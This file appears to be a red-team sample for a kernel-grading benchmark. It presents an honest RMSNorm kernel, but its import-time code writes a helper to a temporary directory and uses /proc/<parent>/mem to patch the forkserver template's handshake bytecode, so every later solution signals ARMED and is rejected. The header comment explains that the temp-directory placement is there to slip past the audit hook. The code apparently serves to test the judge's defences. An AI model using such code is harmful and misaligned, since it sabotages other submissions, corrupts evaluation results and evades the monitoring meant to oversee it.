# Class 8 (poisoning the next solution): a passing solution that rewrites the template
# process every later solution's process is forked from. The template (multiprocessing's
# forkserver) is this process's parent, is dumpable and runs as the same user, so
# /proc/<parent>/mem is writable; objects the template had before it forked this process
# sit at the same addresses in both. At import, this kernel changes one byte of the
# template's copy of the handshake's `serve_rounds`: the LOAD_GLOBAL of `_DONE` becomes
# one of `_ARMED`, so every later solution's process signals ARMED where it should signal
# DONE, and the judge refuses it. The file access runs from a helper module written to a
# temporary directory outside the solution's directory and imported from there, which
# the audit hook does not blame. The kernel itself is honest.
import importlib.util
import os
import shutil
import tempfile

import torch

_HELPER = r'''
import dis, importlib, os, sys

def poison():
    hs = importlib.import_module("solforge.bench." + "handshake")
    code = vars(hs)["serve_rounds"].__code__
    def probe():
        return 987654321
    raw = probe.__code__.co_code
    import ctypes
    mem = ctypes.string_at(id(probe.__code__), sys.getsizeof(probe.__code__))
    offset = mem.find(raw)
    if offset < 0:
        return "no offset"
    target = next(i for i in dis.get_instructions(code) if i.opname == "LOAD_GLOBAL" and i.argval == "_DONE")
    oparg = (code.co_names.index("_ARMED") << 1) | (code.co_code[target.offset + 1] & 1)
    with open("/proc/%d/mem" % os.getppid(), "r+b", buffering=0) as mem_file:
        mem_file.seek(id(code) + offset)
        theirs = mem_file.read(len(code.co_code))
        if theirs[target.offset] != code.co_code[target.offset]:
            return "template differs"
        mem_file.seek(id(code) + offset + target.offset + 1)
        mem_file.write(bytes([oparg]))
    return "patched"
'''


def _run_helper():
    where = tempfile.mkdtemp(prefix="rt-helper-")
    try:
        path = os.path.join(where, "rt_helper.py")
        with open(path, "w") as f:
            f.write(_HELPER)
        spec = importlib.util.spec_from_file_location("rt_helper", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module.poison()
    finally:
        shutil.rmtree(where, ignore_errors=True)


_OUTCOME = _run_helper()


def run(x, weight):
    return x * torch.rsqrt(torch.mean(x * x, dim=-1, keepdim=True) + 1e-6) * weight
